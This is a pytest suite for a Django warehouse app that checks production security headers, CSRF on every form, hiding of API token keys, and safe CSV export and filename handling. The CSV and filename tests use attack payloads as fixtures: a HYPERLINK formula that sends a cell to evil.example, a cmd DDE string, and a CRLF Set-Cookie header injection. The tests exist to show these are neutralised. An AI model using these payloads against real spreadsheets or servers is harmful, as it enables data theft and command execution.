"""Security on a production-settings response, and CSRF on every form of every page.

The production checks run in a child process that imports config.settings.production with a
complete environment (it refuses to start otherwise) and an in-memory test database, so the
answers are exactly what gunicorn would send. The login lockout is tested in
tests/ops/test_security.py; API tokens by the command in test_api_token_command.py.
"""

import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from urllib.parse import urljoin

import pytest
from django.core.management import call_command
from django.test import Client

from tests.e2e.pages import PAGES, resolve_path

ROOT = Path(__file__).resolve().parents[2]

PRODUCTION_PROBE = r"""
import json
import django
django.setup()
from django.db import connection
from django.test.utils import override_settings, setup_test_environment
setup_test_environment()
# The manifest storage needs collectstatic's output; headers and cookies do not depend on it.
override_settings(STORAGES={
    "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"},
    "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
}).enable()
connection.creation.create_test_db(verbosity=0, autoclobber=True)
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client

get_user_model().objects.create_user("probe", password="probe-pass-word-1")
client = Client(HTTP_HOST="partline.example.com")


def describe(response):
    cookies = {
        name: {
            "secure": bool(morsel["secure"]),
            "httponly": bool(morsel["httponly"]),
            "samesite": morsel["samesite"],
        }
        for name, morsel in response.cookies.items()
    }
    return {"status": response.status_code, "headers": dict(response.headers), "cookies": cookies,
            "body": response.content[:2000].decode("utf-8", "replace")}


out = {
    "login_page": describe(client.get("/accounts/login/", secure=True)),
    "plain_http": describe(client.get("/accounts/login/")),
    "forged_proto": describe(client.get("/accounts/login/", HTTP_X_FORWARDED_PROTO="https")),
    "health_over_http": describe(client.get("/health/live")),
    "login_post": describe(client.post(
        "/accounts/login/", {"username": "probe", "password": "probe-pass-word-1"}, secure=True
    )),
    "not_found": describe(client.get("/no-such-page/", secure=True)),
    "api_not_found": describe(client.get("/api/no-such-endpoint/", secure=True)),
}
print("PROBE:" + json.dumps(out))
"""


@pytest.fixture(scope="module")
def production():
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST_")}
    env.update(
        DJANGO_SETTINGS_MODULE="config.settings.production",
        SECRET_KEY="production-probe-" + "x" * 40,
        ALLOWED_HOSTS="partline.example.com",
        DEBUG="False",
        DATABASE_URL="sqlite://:memory:",
        LOG_LEVEL="ERROR",
        TRUSTED_PROXY_COUNT="0",
    )
    env.pop("REDIS_URL", None)
    result = subprocess.run(
        [sys.executable, "-c", PRODUCTION_PROBE],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    line = next(line for line in result.stdout.splitlines() if line.startswith("PROBE:"))
    return json.loads(line.removeprefix("PROBE:"))


def test_production_pages_carry_hsts_with_subdomains_and_preload(production):
    hsts = production["login_page"]["headers"]["Strict-Transport-Security"]
    assert hsts == "max-age=31536000; includeSubDomains; preload"


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("X-Frame-Options", "DENY"),
        ("X-Content-Type-Options", "nosniff"),
        ("Referrer-Policy", "same-origin"),
        ("Cross-Origin-Opener-Policy", "same-origin"),
    ],
)
def test_production_pages_carry_the_security_header(production, header, value):
    assert production["login_page"]["headers"][header] == value


def test_production_csp_allows_scripts_only_from_the_site_itself(production):
    csp = production["login_page"]["headers"]["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in csp.split(";") if part.strip())
    assert directives["script-src"] == "'self'"
    assert directives["default-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"


def test_production_redirects_plain_http_to_https(production):
    response = production["plain_http"]
    assert response["status"] == 301
    assert response["headers"]["Location"].startswith("https://partline.example.com/")


def test_production_without_trusted_proxies_ignores_a_forwarded_proto_header(production):
    # Any client could send "X-Forwarded-Proto: https" over plain HTTP; with no proxy to vouch
    # for it the request is still plain HTTP and is redirected.
    response = production["forged_proto"]
    assert response["status"] == 301
    assert response["headers"]["Location"].startswith("https://")


def test_production_health_probes_are_not_redirected_to_https(production):
    assert production["health_over_http"]["status"] == 200


def test_production_csrf_cookie_is_secure_and_same_site(production):
    cookie = production["login_page"]["cookies"]["csrftoken"]
    assert cookie["secure"] and cookie["samesite"] == "Lax"


def test_production_session_cookie_is_secure_http_only_and_same_site(production):
    login = production["login_post"]
    assert login["status"] == 302
    cookie = login["cookies"]["sessionid"]
    assert cookie == {"secure": True, "httponly": True, "samesite": "Lax"}


def test_production_errors_show_no_debug_page(production):
    page = production["not_found"]
    assert page["status"] == 404
    assert "Traceback" not in page["body"] and "DEBUG = True" not in page["body"]


def test_production_unknown_api_url_answers_json(production):
    response = production["api_not_found"]
    assert response["status"] == 404
    assert response["headers"]["Content-Type"] == "application/json"


# --- CSRF: every POST form on every page of tests/e2e/pages.py refuses a post without the token.


class _FormFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.actions: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "form" and (attributes.get("method") or "get").lower() == "post":
            self.actions.append(attributes.get("action") or "")


def _post_forms_on(client: Client, path: str) -> list[str]:
    response = client.get(path)
    assert response.status_code == 200, f"{path} answered {response.status_code}"
    finder = _FormFinder()
    finder.feed(response.content.decode())
    return sorted({urljoin(path, action) for action in finder.actions})


# The API docs page is Swagger UI: no forms of its own. Every other page has at least the logout
# form of the base layout.
FORM_PAGES = [page for page in PAGES if not page.path.startswith("/api/")]


@pytest.mark.django_db
@pytest.mark.parametrize("page", FORM_PAGES, ids=[page.name for page in FORM_PAGES])
def test_every_form_on_the_page_refuses_a_post_without_the_csrf_token(page, user_in_role):
    user = user_in_role("superuser")
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    if "{" in page.path:
        # The page shows one demo object: load the demo data it is looked up in.
        call_command("load_demo", "--no-users", stdout=StringIO())
    path = resolve_path(page.path)
    actions = _post_forms_on(client, path)
    assert actions, f"{path} has no POST form (every page has at least the logout form)"
    for action in actions:
        response = client.post(action, {})
        assert response.status_code == 403, f"POST {action} (form on {path}) without CSRF token"
        assert b"CSRF" in response.content


@pytest.mark.django_db
def test_the_sweep_reaches_the_forms_only_a_draft_shows(user_in_role):
    # A posted document has only Cancel; the draft's Post and Discard and its edit form are
    # swept because pages.py lists a draft and its edit page.
    client = Client()
    client.force_login(user_in_role("superuser"))
    call_command("load_demo", "--no-users", stdout=StringIO())
    detail = resolve_path("/warehouse/documents/{draft}/")
    edit = resolve_path("/warehouse/documents/{draft}/edit/")
    swept = {page.path for page in FORM_PAGES}
    assert {"/warehouse/documents/{draft}/", "/warehouse/documents/{draft}/edit/"} <= swept
    assert {detail + "post/", detail + "delete/"} <= set(_post_forms_on(client, detail))
    assert edit in _post_forms_on(client, edit)


@pytest.mark.django_db
def test_the_login_form_refuses_a_post_without_the_csrf_token(user_in_role):
    user = user_in_role("viewer")
    client = Client(enforce_csrf_checks=True)
    response = client.post("/accounts/login/", {"username": user.username, "password": "x"})
    assert response.status_code == 403


@pytest.mark.django_db
def test_a_form_post_with_the_csrf_token_is_accepted(user_in_role):
    """The other side of the CSRF checks: the token the page hands out is enough."""
    user = user_in_role("viewer")
    client = Client(enforce_csrf_checks=True)
    client.get("/accounts/login/")
    token = client.cookies["csrftoken"].value
    response = client.post(
        "/accounts/login/",
        {"username": user.username, "password": "pass-word-123", "csrfmiddlewaretoken": token},
    )
    assert response.status_code == 302


@pytest.mark.django_db
def test_the_api_refuses_a_session_authenticated_write_without_the_csrf_token(user_in_role):
    client = Client(enforce_csrf_checks=True)
    client.force_login(user_in_role("manager"))
    response = client.post(
        "/api/categories/", {"name": "No token"}, content_type="application/json"
    )
    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]


# --- API tokens: the admin never shows a key, and no role may read the token tables.


@pytest.fixture
def tokens(user_in_role):
    from rest_framework.authtoken.models import Token

    admin = user_in_role("superuser")
    other = user_in_role("viewer")
    return admin, {user.username: Token.objects.create(user=user).key for user in (admin, other)}


@pytest.mark.django_db
def test_a_manager_cannot_open_the_token_admin_nor_read_any_key(tokens, user_in_role):
    manager = user_in_role("manager")
    client = Client()
    client.force_login(manager)
    response = client.get("/admin/authtoken/tokenproxy/")
    assert response.status_code == 403
    for key in tokens[1].values():
        assert key.encode() not in response.content
    assert not any(perm.startswith("authtoken.") for perm in manager.get_all_permissions())


@pytest.mark.django_db
def test_the_token_admin_lists_holders_to_the_superuser_but_never_a_key(tokens):
    admin, keys = tokens
    client = Client()
    client.force_login(admin)
    response = client.get("/admin/authtoken/tokenproxy/")
    assert response.status_code == 200
    for username, key in keys.items():
        assert username.encode() in response.content
        assert key.encode() not in response.content


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["change/", "delete/", "history/"])
@pytest.mark.parametrize("by", ["user id", "key"])
def test_the_token_admin_has_no_page_that_would_print_a_key(tokens, suffix, by):
    # A token's own pages title it with str(token), which is the key: they are refused (403), or
    # the id names no token and the admin sends the user back to its index (302).
    admin, keys = tokens
    key = keys[admin.username]
    client = Client()
    client.force_login(admin)
    object_id = admin.pk if by == "user id" else key
    response = client.get(f"/admin/authtoken/tokenproxy/{object_id}/{suffix}")
    assert response.status_code in (302, 403)
    if response.status_code == 302:
        response = client.get(response["Location"])
    assert key.encode() not in response.content


@pytest.mark.django_db
def test_the_token_migration_takes_token_permissions_from_a_manager_group_that_had_them():
    import importlib

    from django.apps import apps
    from django.contrib.auth.models import Group, Permission

    migration = importlib.import_module("analytics.migrations.0002_manager_role_without_api_tokens")
    manager = Group.objects.get(name="manager")
    manager.permissions.add(*Permission.objects.filter(content_type__app_label="authtoken"))
    migration.remove_token_permissions(apps, None)
    assert not manager.permissions.filter(content_type__app_label="authtoken").exists()
    assert manager.permissions.filter(codename="post_stockdocument").exists()


# --- Internal tables are for superusers only, whatever model permissions a role holds.


def _uses_superuser_only_admin(model_label: str) -> bool:
    from django.apps import apps
    from django.contrib import admin

    from config.admin import SuperuserOnlyAdmin

    model = apps.get_model(model_label)
    return isinstance(admin.site._registry.get(model), SuperuserOnlyAdmin)


INTERNAL_ADMINS = [
    "warehouse.IdempotencyRecord",
    "axes.AccessAttempt",
    "axes.AccessLog",
    "axes.AccessFailureLog",
]


@pytest.mark.parametrize("model_label", INTERNAL_ADMINS)
def test_internal_tables_are_registered_with_the_superuser_only_admin(model_label):
    assert _uses_superuser_only_admin(model_label)


def _changelist(model_label: str) -> str:
    app_label, model_name = model_label.lower().split(".")
    return f"/admin/{app_label}/{model_name}/"


@pytest.mark.django_db
@pytest.mark.parametrize("model_label", INTERNAL_ADMINS)
@pytest.mark.parametrize("role", ["viewer", "manager"])
def test_staff_without_superuser_cannot_read_an_internal_table_in_the_admin(
    model_label, role, user_in_role
):
    from django.apps import apps
    from django.contrib.auth.models import Permission

    from tests.factories import IdempotencyRecordFactory

    IdempotencyRecordFactory(key="someone-elses-key")
    user = user_in_role(role)
    user.is_staff = True  # a viewer given admin access
    user.save()
    # Even holding the model's view permission (a role "that reads everything") does not open it.
    model = apps.get_model(model_label)
    user.user_permissions.add(
        Permission.objects.get(
            content_type__app_label=model._meta.app_label,
            codename=f"view_{model._meta.model_name}",
        )
    )
    client = Client()
    client.force_login(user)
    assert client.get(_changelist(model_label)).status_code == 403
    index = client.get("/admin/")
    assert _changelist(model_label).encode() not in index.content
    assert b"someone-elses-key" not in index.content


@pytest.mark.django_db
@pytest.mark.parametrize(
    "model_label",
    [
        "warehouse.IdempotencyRecord",
        "axes.AccessAttempt",
        "axes.AccessLog",
        "axes.AccessFailureLog",
    ],
)
def test_the_superuser_reads_an_internal_table_in_the_admin(model_label, user_in_role):
    client = Client()
    client.force_login(user_in_role("superuser"))
    assert client.get(_changelist(model_label)).status_code == 200


# --------------------------------------------------------------------------- CSV exports

FORMULA_SKU = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def csv_rows(text: str) -> list[list[str]]:
    import csv

    return list(csv.reader(StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-5", "-5"),
        ("-1.25", "-1.25"),
        ("+3", "+3"),
        (-5, -5),
        ("Servo - 7.4 V", "Servo - 7.4 V"),
        ("", ""),
    ],
)
def test_the_csv_writer_writes_formula_cells_as_text_but_keeps_plain_numbers(value, written):
    from config.csv_io import CsvWriter, unquote_formula

    assert CsvWriter.cell(value) == written
    if isinstance(value, str):
        assert unquote_formula(written) == value  # what the import reads back


@pytest.mark.django_db
def test_a_formula_sku_exported_as_bom_and_reimported_comes_back_as_the_same_sku():
    from inventory.imports.bom import bom_import_csv
    from inventory.imports.exports import bom_export_csv
    from inventory.models import BomLine, Part
    from tests.factories import AssemblyFactory, BomLineFactory, PartFactory

    arm = AssemblyFactory(sku="ARM")
    BomLineFactory(assembly=arm, component=PartFactory(sku=FORMULA_SKU, name="@name"))
    exported = bom_export_csv(part=arm)
    assert csv_rows(exported)[1][1] == f"'{FORMULA_SKU}"
    BomLine.objects.all().delete()
    Part.objects.exclude(pk=arm.pk).delete()
    bom_import_csv(content=exported)
    component = BomLine.objects.get().component
    assert (component.sku, component.name) == (FORMULA_SKU, "@name")


@pytest.mark.django_db
def test_a_formula_sku_exported_as_parts_and_reimported_changes_nothing():
    from inventory.imports.exports import parts_export_csv
    from inventory.imports.parts import parts_import_csv
    from inventory.models import Part
    from tests.factories import PartFactory

    PartFactory(sku=FORMULA_SKU, name="+name", mpn="-MPN")
    exported = parts_export_csv(parts=Part.objects.all())
    row = csv_rows(exported)[1]
    assert (row[0], row[1], row[4]) == (f"'{FORMULA_SKU}", "'+name", "'-MPN")
    assert parts_import_csv(content=exported) == {"rows": 1, "created": 0, "updated": 0}


@pytest.mark.django_db
def test_the_admin_planner_and_oee_csv_exports_write_formula_cells_as_text(user_in_role):
    from analytics.oee.reports import oee_daily_report
    from tests.factories import (
        AssemblyFactory,
        BomLineFactory,
        OeeDailyFactory,
        PartFactory,
        ProductionLineFactory,
    )

    arm = AssemblyFactory(sku="ARM")
    part = PartFactory(sku=FORMULA_SKU)
    BomLineFactory(assembly=arm, component=part)
    client = Client()
    client.force_login(user_in_role("superuser"))
    for action in ("export_parts_csv", "export_bom_csv"):
        response = client.post(
            "/admin/inventory/part/", {"action": action, "_selected_action": [arm.pk, part.pk]}
        )
        assert response.status_code == 200, action
        assert f"'{FORMULA_SKU}" in sum(csv_rows(response.content.decode()), []), action
    planner = client.get("/warehouse/planner/export.csv", {"part": arm.pk, "quantity": 1})
    assert planner.status_code == 200
    assert csv_rows(planner.content.decode())[1][0] == f"'{FORMULA_SKU}"
    OeeDailyFactory(line=ProductionLineFactory(code="=1+1"))
    _, content = oee_daily_report(
        parameters={"date_from": "2000-01-01", "date_to": "2100-01-01"},
        file_format="csv",
        progress=lambda done, total: None,
    )
    assert csv_rows(content.decode())[1][0] == "'=1+1"
    _, content = oee_daily_report(
        parameters={"date_from": "2000-01-01", "date_to": "2100-01-01"},
        file_format="xlsx",
        progress=lambda done, total: None,
    )
    from io import BytesIO

    from openpyxl import load_workbook

    cell = load_workbook(BytesIO(content))["OEE"]["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")  # text, not a formula


@pytest.mark.parametrize(
    ("filename", "fallback", "encoded"),
    [
        ("parts.csv", "parts.csv", "parts.csv"),
        ('shortages-"A".csv', "shortages-_A_.csv", "shortages-%22A%22.csv"),
        ("shortages-A\r\nSet-Cookie: x=1.csv", "shortages-ASet-Cookie__x_1.csv", None),
        ("shortages-Zahnrad-ä.csv", "shortages-Zahnrad-a.csv", "shortages-Zahnrad-%C3%A4.csv"),
    ],
)
def test_a_download_name_with_quotes_line_breaks_or_accents_makes_one_safe_header(
    filename, fallback, encoded
):
    from config.csv_io import csv_response

    response = csv_response(filename)
    header = response["Content-Disposition"]
    assert header.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.count('"') == 2
    if encoded:
        assert header.endswith(encoded)


@pytest.mark.django_db
def test_the_planner_csv_download_for_a_sku_with_a_quote_or_line_break_answers_200(user_in_role):
    from tests.factories import AssemblyFactory, BomLineFactory

    client = Client()
    client.force_login(user_in_role("viewer"))
    for sku in ('ARM"1', "ARM\r\n2", "ARM-ü"):
        arm = AssemblyFactory(sku=sku)  # an existing row, written before identifiers were checked
        BomLineFactory(assembly=arm)
        response = client.get("/warehouse/planner/export.csv", {"part": arm.pk, "quantity": 1})
        assert response.status_code == 200, sku
        assert response["Content-Disposition"].count('"') == 2


# --------------------------------------------------------------------------- identifiers


@pytest.mark.parametrize(
    "char",
    ["\r", "\n", "\x00", "\t", "\x1b", "\x7f", "\x85", "\u202a", "\u202e", "\u2066", "\u2069"]
    + ["\u200b", "\u200c", "\u200d", "\ufeff"],
)
def test_an_identifier_with_a_control_bidirectional_or_zero_width_character_is_refused(char):
    from django.core.exceptions import ValidationError

    from config.validators import validate_identifier

    with pytest.raises(ValidationError, match=f"U\\+{ord(char):04X}"):
        validate_identifier(f"SKU{char}1")


@pytest.mark.parametrize("value", ["SKU-1", "Zahnrad-ä", "螺丝 M3", "=HYPERLINK(1)", "A B/C"])
def test_an_identifier_of_visible_characters_is_accepted(value):
    from config.validators import validate_identifier

    validate_identifier(value)


@pytest.mark.django_db
def test_the_admin_and_the_parts_import_refuse_a_sku_with_a_line_break(user_in_role):
    from inventory.imports.parts import PartImportError, parts_import_csv
    from inventory.models import Part

    client = Client()
    client.force_login(user_in_role("superuser"))
    response = client.post(
        "/admin/inventory/part/add/",
        {"sku": "NEW\r\nSKU", "name": "x", "unit": "pcs", "currency": "USD", "unit_cost": "0"},
    )
    assert response.status_code == 200
    assert "must not contain control characters" in response.content.decode()
    with pytest.raises(PartImportError) as refused:
        parts_import_csv(content='sku,name\n"NEW\r\nSKU",x\n')
    assert "line 2: sku must not contain control characters" in str(refused.value.messages)
    assert not Part.objects.exists()
